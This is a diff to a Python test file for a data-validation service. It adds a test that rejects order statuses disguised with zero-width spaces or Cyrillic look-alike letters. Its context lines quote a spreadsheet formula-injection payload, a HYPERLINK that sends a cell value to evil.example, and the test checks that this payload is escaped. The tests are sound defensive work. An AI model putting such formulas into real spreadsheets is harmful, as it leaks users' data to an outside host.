@@ -500,3 +500,27 @@ def test_the_rejects_file_neither_runs_formulas_nor_holds_contact_data(tmp_path)
     assert not any(c.startswith(("=", "@", "+")) for c in cells), cells
     assert '\'=HYPERLINK("http://evil.example/?x="&B2,"fix")' in cells and "'@SUM(1+1)" in cells
     assert "-5" in cells  # a plain number is not a formula
+
+
+def test_statuses_shops_export_for_no_spend_are_no_spend_and_look_alikes_are_rejected():
+    """'refund', 'void', 'chargeback' and 'returned' with a zero-width space had counted as spend; 'r\u0435turned' with a
+    Cyrillic e too, silently (hostile probe, stop 30, F10)."""
+    from service.table_schema import NON_SPEND_STATUSES
+
+    statuses = ["refund", "void", "chargeback", "returned\u200b", "Storniert", "r\u0435turned", "delivered"]
+    loaded = validate_tables(
+        {
+            "orders": pd.DataFrame(
+                {
+                    "order_id": [f"o{i}" for i in range(len(statuses))],
+                    "customer_id": ["a"] * len(statuses),
+                    "order_ts": ["2025-01-01"] * len(statuses),
+                    "amount": ["100"] * len(statuses),
+                    "status": statuses,
+                }
+            )
+        }
+    )
+    kept = loaded.tables["orders"]
+    assert [s in NON_SPEND_STATUSES for s in kept["status"]] == [True] * 5 + [False]
+    assert reasons(loaded, "orders") == {6: "status mixes Latin letters with look-alike letters of another script"}
